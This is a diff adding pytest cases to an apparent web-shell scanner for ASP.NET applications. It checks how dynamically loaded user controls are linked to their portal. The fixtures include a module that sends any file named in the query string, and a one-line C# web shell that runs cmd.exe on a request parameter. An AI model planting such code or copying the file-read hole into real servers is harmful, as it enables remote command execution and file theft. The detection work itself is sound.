@@ -270,6 +270,53 @@ def test_a_dnn_manifest_is_read_for_links(tmp_path: Path) -> None:
     assert link.source.endswith("Shop.dnn")
 
 
+#: A portal module (IBuySpy's shape, B8): a user control whose code sends a request-named file.
+MODULE_CODE = (
+    "using System;\nusing System.Web.UI;\nusing Shop.Storage;\n"
+    "public partial class XmlModule : UserControl {\n"
+    "    protected void Page_Load(object s, EventArgs e) {\n"
+    '        Response.TransmitFile(Request.QueryString["doc"]);\n    }\n}\n'
+)
+MODULE_MARKUP = '<%@ Control Language="C#" CodeBehind="XmlModule.ascx.cs" Inherits="XmlModule" %>\n<div>xml</div>\n'
+
+
+@pytest.mark.parametrize(
+    ("loader", "review"),
+    [
+        ("Control c = Page.LoadControl(module.DesktopSrc);", True),
+        ('Control c = Page.LoadControl("~/DesktopModules/Other.ascx");', False),  # a literal names another control
+        ("", False),
+    ],
+    ids=["dynamic", "literal-other", "none"],
+)
+def test_a_user_control_loaded_by_a_name_read_at_run_time(tmp_path: Path, loader: str, review: bool) -> None:
+    """A user control cannot be requested (ASP.NET forbids .ascx): a portal that loads its modules by a name
+    kept in its database is their link, though no file names them (B8: IBuySpy, DNN, Rainbow)."""
+    portal = (
+        "using System.Web.UI;\npublic partial class DesktopDefault : Page {\n"
+        f"    void Add(ModuleSettings module) {{ {loader} }}\n}}\n"
+    )
+    pages = {
+        "DesktopModules/XmlModule.ascx": MODULE_MARKUP,
+        "DesktopModules/XmlModule.ascx.cs": MODULE_CODE,
+        "DesktopDefault.aspx": '<%@ Page CodeBehind="DesktopDefault.aspx.cs" Inherits="DesktopDefault" %>\n',
+        "DesktopDefault.aspx.cs": portal,
+    }
+    f = page_finding(scan(app_server(tmp_path, pages, "")), "XmlModule.ascx.cs")
+    assert (APPLICATION_FEATURE_TAG in f.tags) is review, (f.tags, f.title)
+    if review:
+        link = next(e for e in f.evidence if e.fields.get("reason") == "application-link")
+        assert link.fields["role"] == "loader" and "LoadControl(module.DesktopSrc)" in link.raw
+        assert "loads user controls by a name it reads at run time" in f.description
+
+
+def test_a_dynamic_control_loader_is_no_link_to_a_page(tmp_path: Path) -> None:
+    """Pages can be requested: a planted page is not made an application's own by a LoadControl."""
+    loader = "using System.Web.UI;\npublic partial class D : Page { void A(string n) { Page.LoadControl(n); } }\n"
+    pages = {"Admin/Download.ashx": DOWNLOAD, "D.aspx": '<%@ Page CodeBehind="D.aspx.cs" Inherits="D" %>\n', "D.aspx.cs": loader}
+    assert page_finding(scan(app_server(tmp_path, pages, "")), "Download.ashx").outcome is Outcome.WEBSHELL
+
+
 def test_a_review_page_does_not_hide_a_web_shell_elsewhere(tmp_path: Path) -> None:
     shell = '<%@ Page Language="C#" %>\n<% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>\n'
     server = app_server(
